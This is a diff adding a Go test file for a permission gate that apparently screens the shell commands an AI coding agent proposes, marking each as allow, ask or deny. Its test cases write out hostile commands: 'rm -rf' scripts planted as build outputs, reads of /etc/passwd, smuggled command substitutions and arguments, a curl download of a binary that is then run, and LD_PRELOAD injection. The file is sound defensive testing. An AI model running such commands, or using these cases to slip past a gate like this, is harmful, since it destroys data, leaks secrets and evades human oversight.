@@ -1,0 +1,155 @@
+package fencepost
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fencepost/fencepost/internal/audit"
+	"github.com/fencepost/fencepost/internal/fact"
+)
+
+// builtProject is a project that has been built, and one in which somebody has put other things
+// where builds put programs.
+func builtProject(t *testing.T) *sandbox {
+	t.Helper()
+	s := withHelper(t, "import: [recommended]\n")
+	elf, macho := "\x7fELF\x02\x01\x01\x00", "\xcf\xfa\xed\xfe\x07\x00\x00\x01"
+	files{
+		"go.mod": "module x\n", "src/a.c": "int main(void) { return 0; }\n", "src/a.rs": "fn main() {}\n",
+		"data/a.json": "{}\n", "bin/elf": elf, "bin/macho": macho, "build/elf": elf, "server": elf,
+		"cmd/x/x": elf, "target/debug/elf": elf, "bin/kubectl": elf, "bin/deploy": elf,
+		"bin/tcl": "#!/usr/bin/env tclsh\nexec rm -rf /home\n", "bin/garbage": "\x00\x01\x02",
+		"build/mk": "#!/usr/bin/make -f\nall:\n\trm -rf /home\n",
+		"bin/sh":   "#!/bin/sh\nrm -rf ~/x\n", "bin/known": "#!/bin/sh\nls src\n",
+		"bin/unknown": "#!/bin/sh\nfrobnicate\n", "build/py": "import frob\n",
+	}.write(t, s.project)
+	for _, name := range []string{"bin", "build", "target/debug"} {
+		list, err := os.ReadDir(filepath.Join(s.project, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, e := range list {
+			if err := os.Chmod(filepath.Join(s.project, name, e.Name()), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	for name, to := range map[string]string{"bin/link": "/bin/true", "target/debug/link": "/bin/true"} {
+		if err := os.Symlink(to, filepath.Join(s.project, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return s
+}
+
+// TestBuilt: a program that was built of the project passes, and nothing else that lies there.
+func TestBuilt(t *testing.T) {
+	s := builtProject(t)
+	for _, tt := range []struct{ cmd, want string }{
+		{"./bin/elf --version", "allow"},
+		{"bin/macho list --json | jq length", "allow"},
+		{`bin/elf --url=http://localhost:8080/x "hello world" --glob '*.txt' --in=data/a.json -`, "allow"},
+		{"for n in 1 10; do ./bin/elf bench -n $n | tail -1; done", "allow"},
+		{"cat data/a.json | bin/elf --stdin", "allow"},
+		{"GODEBUG=gctrace=1 ./bin/elf -once", "allow"},
+		{"./server --port 8080 > tmp/server.log 2>&1 &", "allow"},
+		{"cmd/x/x --help", "allow"},
+		{"target/debug/elf run data/a.json", "allow"},
+		{"./bin/app --version", "allow"}, // there is none yet
+		{"./build/tests/unit --gtest_filter='Parser.*'", "allow"},
+		{"bin/known", "allow"},
+		{"go build -o bin/app . && bin/app --help", "allow"},
+		{"go build -o /tmp/app ./cmd/x && /tmp/app --help", "allow"},
+		{"cc src/a.c -o tmp/t && ./tmp/t", "allow"},
+		{"rustc src/a.rs -o tmp/t && tmp/t", "allow"},
+		{"gcc -Wall src/a.c && ./a.out", "allow"},
+		{"make && ./prog -x", "allow"},
+		{"hyperfine './bin/elf data/a.json'", "allow"},
+
+		// What lies there is not what a compiler makes.
+		{"bin/tcl", "ask"}, {"build/mk", "ask"}, {"bin/garbage", "ask"}, {"build/py", "ask"},
+		{"bin/unknown", "ask"}, {"bin/sh", "deny"}, {"bin/link", "ask"}, {"target/debug/link", "ask"},
+		{"bin/kubectl get pods", "ask"}, // a program that somebody has put there
+		{"bin/deploy", "ask"},
+		{"tmp/prog", "ask"}, {"./prog", "ask"}, {"../x/build/prog", "ask"}, {"~/bin/prog", "ask"},
+		// The same call puts it there otherwise.
+		{"cp /bin/rm bin/app && bin/app -rf src", "ask"},
+		{"cp /bin/rm build/elf && build/elf -rf src", "ask"},
+		{"cat /bin/sh > bin/app; chmod +x bin/app; bin/app x", "ask"},
+		{"mv data/a.json bin/app; bin/app", "ask"},
+		{"cc src/a.c -o build/q && cp /bin/rm build/q && build/q -rf src", "ask"},
+		{"cp bin/tcl build/q; cc src/a.c -o build/q; build/q -rf src", "ask"},
+		{"git checkout other && bin/app", "ask"},
+		{"tar xf data/a.tar && bin/app", "ask"},
+		{"cc -MD -MF build/q -MT 'rm -rf ~ #' -c src/a.c && build/q", "ask"},
+		// The compiler gets what is not the project's, or what the call writes.
+		{"cc /var/lib/x.c -o build/q && build/q", "ask"},
+		{"cp ~/x.c src/q.c && cc src/q.c -o tmp/q && tmp/q", "ask"},
+		{"cc -fplugin=./x.so src/a.c -o tmp/q && tmp/q", "ask"},
+		{"CC=x cc -B ./x src/a.c -o tmp/q && tmp/q", "ask"},
+		{"go build -o ~/bin/app . && ~/bin/app", "deny"},
+		{"go build -toolexec ./x -o bin/app . && bin/app", "ask"},
+		// What it is told is more than names and values.
+		{"bin/elf /etc/passwd", "ask"}, {"bin/elf ../x", "ask"}, {"bin/elf ~/x", "ask"},
+		{"bin/elf --in=/etc/passwd", "ask"}, {"bin/elf data/a.json,/etc/passwd", "ask"},
+		{"bin/elf 'cat /etc/passwd'", "ask"}, {"bin/elf 'x; y'", "ask"}, {"bin/elf '$(x)'", "ask"},
+		{"bin/elf https://host.example/x", "ask"}, {"bin/elf http://localhost@host.example/x", "ask"},
+		{"bin/elf http://localhost.host.example/x", "ask"},
+		{"bin/elf deploy", "ask"}, {"bin/elf --publish", "ask"}, {`bin/elf "$(cat data/a.json)"`, "ask"},
+		{"bin/elf -rf .git", "ask"}, {"bin/elf src/.env", "ask"},
+		{"LD_PRELOAD=./x.so bin/elf", "ask"}, {"LD_LIBRARY_PATH=. bin/elf", "ask"},
+	} {
+		v := s.judge(t, "Bash", map[string]any{"command": tt.cmd})
+		if got := v.Decision.String(); got != tt.want {
+			t.Errorf("%s: got %s (%s %s), want %s", tt.cmd, got, v.Rule, v.Description, tt.want)
+		}
+	}
+}
+
+// TestBuiltEarlier: a program that an earlier call of the session has put there, and no compiler,
+// is none that was built.
+func TestBuiltEarlier(t *testing.T) {
+	bash := func(text string) fact.Call {
+		return fact.Call{Tool: "Bash", Input: []fact.Field{{Name: "command", Text: text, String: true}}}
+	}
+	s := builtProject(t)
+	log := filepath.Join(s.home, ".claude", "fencepost", "logs", "audit.jsonl")
+	for _, tt := range []struct {
+		earlier fact.Call
+		cmd     string
+		want    string
+	}{
+		{bash("cp /bin/rm bin/elf"), "bin/elf -rf src", "ask"},
+		{bash("cp /bin/rm build/elf"), "build/elf -rf src", "ask"},
+		{bash("cd bin && cat /bin/sh > elf"), "bin/elf x", "ask"},
+		{bash("curl -so bin/elf https://host.example/x"), "./bin/elf", "ask"},
+		{bash("mv tmp/x server"), "./server", "ask"},
+		{bash("install -m755 ~/x cmd/x/x"), "cmd/x/x", "ask"},
+		{bash("tar xf a.tar -C bin elf"), "bin/elf", "ask"},
+		{bash(`python3 -c "open('bin/elf','wb').write(x)"`), "bin/elf", "ask"},
+		{fact.Call{Tool: "Write", Input: []fact.Field{{Name: "file_path", Text: "bin/elf", String: true}}},
+			"bin/elf", "ask"},
+
+		{bash("go build -o bin/elf ./cmd/x"), "bin/elf", "allow"},
+		{bash("cc src/a.c -o build/elf"), "build/elf", "allow"},
+		{bash("make && cp data/a.json data/b.json"), "bin/elf", "allow"},
+		{bash("cp /bin/rm bin/other"), "bin/elf", "allow"},
+		{bash("bin/elf --write data/a.json"), "bin/elf", "ask"}, // it may be code that writes it
+	} {
+		e := audit.Entry{Time: time.Now(), Session: "s", Cwd: s.project, Tool: tt.earlier.Tool,
+			Input: tt.earlier.Input, Decision: "allow"}
+		os.Remove(log)
+		if err := audit.Append(audit.Options{Path: log}, &e); err != nil {
+			t.Fatal(err)
+		}
+		call := bash(tt.cmd)
+		call.Session, call.Cwd = "s", s.project
+		if v := s.gate.Judge(&call).Verdict; v.Decision.String() != tt.want {
+			t.Errorf("%s after %s: %s (%s), want %s", tt.cmd, tt.earlier.Input[0].Text, v.Decision,
+				strings.TrimSpace(v.Rule+" "+v.Description), tt.want)
+		}
+	}
+}
